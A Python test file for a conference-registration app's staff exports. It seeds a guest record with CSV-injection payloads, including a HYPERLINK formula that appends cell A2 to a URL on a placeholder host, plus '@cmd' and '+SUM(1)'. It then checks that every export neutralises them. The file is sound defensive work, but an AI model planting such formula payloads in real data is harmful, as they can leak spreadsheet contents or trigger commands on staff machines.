"""No export puts a live formula into a staff spreadsheet (CSV injection).

A participant named `=HYPERLINK("http://x?"&A2,"Klicka")`, from an organisation called `+SUM(1)`
with the diet `@cmd` and `-1+1` as payee, is in every CSV and XLSX export; no cell of any of
them is a formula, and every number is still a number.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook

from okconf.clock import today as stockholm_today
from okconf.extensions import db
from okconf.spreadsheets import FORMULA_STARTS, safe_cell
from tests.test_hostile_input import workshop_preferences_page_for

FORMULA = '=HYPERLINK("http://x?"&A2,"Klicka")'
ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture
def world(make_conference, make_registration, make_user, login):
    """A conference with workshops, a guest whose every text is a formula, an approved claim."""
    from okconf.registration.models import RegistrationDiet
    from okconf.reimbursements.models import AccountKind, Claim, ClaimState, PayeeKind
    from okconf.vocabulary import Diet

    conference = make_conference(date=stockholm_today() - timedelta(days=3))
    workshop_preferences_page_for(conference)
    guest = make_registration(
        conference,
        first_name=FORMULA,
        last_name="\tTabb",
        organisation_name="+SUM(1)",
        diet_other="@cmd",
        checked_in_at=datetime.now(UTC),
    )
    db.session.add(RegistrationDiet(registration_id=guest.id, diet=next(iter(Diet))))
    db.session.add(
        Claim(
            registration_id=guest.id,
            conference_id=conference.id,
            state=ClaimState.APPROVED,
            payee_kind=PayeeKind.PERSON,
            payee_name="-1+1",
            account_kind=AccountKind.BANKGIRO,
            account_number="=1+2",
            approved_ore=123450,
        )
    )
    db.session.commit()
    login(make_user("admin"))
    return conference


def export_urls(conference) -> dict[str, list[str]]:
    """Every CSV and XLSX export, by endpoint."""
    c = conference.id
    every_column = "&".join(f"columns={key}" for key in _column_keys())
    return {
        "attendees.export_attendees": [
            f"/staff/konferenser/{c}/export/deltagare?format={fmt}&scope=all&{every_column}"
            for fmt in ("csv", "xlsx")
        ],
        "attendees.export_catering": [f"/staff/konferenser/{c}/export/mat?format=xlsx"],
        "reimbursements.export_list": [
            "/staff/ersattning/utbetalning/lista.csv",
            "/staff/ersattning/utbetalning/lista.xlsx",
        ],
        "workshops.export": [
            f"/staff/konferenser/{c}/workshops/export.csv",
            f"/staff/konferenser/{c}/workshops/export.xlsx",
        ],
    }


def _column_keys() -> list[str]:
    from okconf.attendees.attendee_list import COLUMNS

    return [column.key for column in COLUMNS]


def cells_of(response) -> list:
    """Every cell of a CSV or XLSX download, formulas as formulas."""
    data = response.get_data()
    if data[:2] == b"PK":
        book = load_workbook(io.BytesIO(data))  # not data_only: formulas stay formulas
        cells = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                    cells.append(cell.value)
        return cells
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def test_no_export_holds_a_formula(client, world):
    for endpoint, urls in export_urls(world).items():
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, (endpoint, url)
            cells = cells_of(response)
            texts = [c for c in cells if isinstance(c, str)]
            assert any(FORMULA in text for text in texts), (url, "the guest is not in it")
            assert not [t for t in texts if t.startswith(FORMULA_STARTS)], url
            assert "'" + FORMULA in texts or any(t.startswith("'" + FORMULA) for t in texts), url


def test_numbers_stay_numbers(client, world):
    cells = cells_of(client.get("/staff/ersattning/utbetalning/lista.xlsx"))
    assert 1234.5 in cells
    catering = cells_of(client.get(f"/staff/konferenser/{world.id}/export/mat?format=xlsx"))
    assert 1 in catering and not any(c == "1" for c in catering)


def test_every_spreadsheet_export_is_tested(app):
    """Every route that sends CSV or XLSX is in export_urls (a new export must be added)."""
    spreadsheet_endpoints = {
        rule.endpoint
        for rule in app.url_map.iter_rules()
        if rule.redirect_to is None
        and any(word in rule.rule for word in (".csv", ".xlsx", ".<fmt>", "/export/"))
    }
    not_spreadsheets = {
        "attendees.export_badges",
        "attendees.export_tables",
        "attendees.export_workshops",
    }

    class Stub:
        id = 1

    assert spreadsheet_endpoints - not_spreadsheets <= set(export_urls(Stub()))


def test_only_the_safe_writer_writes_spreadsheets():
    """No module but okconf/spreadsheets.py writes CSV or XLSX."""
    writers = ("csv.writer(", "csv.DictWriter(", "xlsxwriter.Workbook(", "Workbook()")
    offenders = [
        str(path.relative_to(ROOT))
        for path in (ROOT / "okconf").rglob("*.py")
        if path.name != "spreadsheets.py" and any(w in path.read_text() for w in writers)
    ]
    assert not offenders


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+46 70", "'+46 70"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Anna", "Anna"),
        ("", ""),
        (None, ""),
        (-5, -5),
        (12.5, 12.5),
    ],
)
def test_safe_cell(value, cell):
    assert safe_cell(value) == cell
